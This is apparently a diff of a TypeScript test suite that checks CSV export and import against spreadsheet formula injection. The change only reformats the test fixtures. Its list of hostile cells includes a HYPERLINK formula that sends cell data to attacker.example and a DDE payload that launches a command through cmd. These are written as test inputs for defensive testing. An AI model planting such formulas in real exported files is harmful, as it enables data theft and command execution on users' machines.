@@ -12,7 +12,19 @@ import { resetDatabase, testDatabase } from '../support/db';
  * Spreadsheet formula injection through CSV export: cells a spreadsheet would run as formulas are
  * written with a leading quote, import strips it, and export -> import -> export is byte-identical.
  */
-const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', "'=already quoted", "''+twice", "'plain quote", '=', 'a=b'];
+const HOSTILE = [
+  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1',
+  '\r=1',
+  "'=already quoted",
+  "''+twice",
+  "'plain quote",
+  '=',
+  'a=b',
+];
 
 describe('the cell rule', () => {
   it.each(HOSTILE)('%j survives neutralize -> restore, and is never written as a formula', (text) => {
@@ -48,7 +60,13 @@ describe('export -> import -> export with hostile cells', () => {
     const source = path.join(tmp, 'source');
     fs.mkdirSync(source);
     const csv = (rows: string[][]) => rows.map((row) => row.map((v) => formatCsvField(v)).join(',')).join('\n') + '\n';
-    fs.writeFileSync(path.join(source, 'territories.csv'), csv([['id', 'name', 'region'], ['ter-1', '=1+1', '@region']]));
+    fs.writeFileSync(
+      path.join(source, 'territories.csv'),
+      csv([
+        ['id', 'name', 'region'],
+        ['ter-1', '=1+1', '@region'],
+      ]),
+    );
     fs.writeFileSync(
       path.join(source, 'hcps.csv'),
       csv([
@@ -57,7 +75,13 @@ describe('export -> import -> export with hostile cells', () => {
         ['hcp-2', HOSTILE[3], "'=already quoted", "''+twice", '', 'ter-1', '', ''],
       ]),
     );
-    fs.writeFileSync(path.join(source, 'msls.csv'), csv([['id', 'firstName', 'lastName', 'email', 'territoryId', 'therapeuticAreaIds'], ['msl-1', 'M', "'plain quote", '', 'ter-1', '']]));
+    fs.writeFileSync(
+      path.join(source, 'msls.csv'),
+      csv([
+        ['id', 'firstName', 'lastName', 'email', 'territoryId', 'therapeuticAreaIds'],
+        ['msl-1', 'M', "'plain quote", '', 'ter-1', ''],
+      ]),
+    );
     fs.writeFileSync(
       path.join(source, 'interactions.csv'),
       csv([
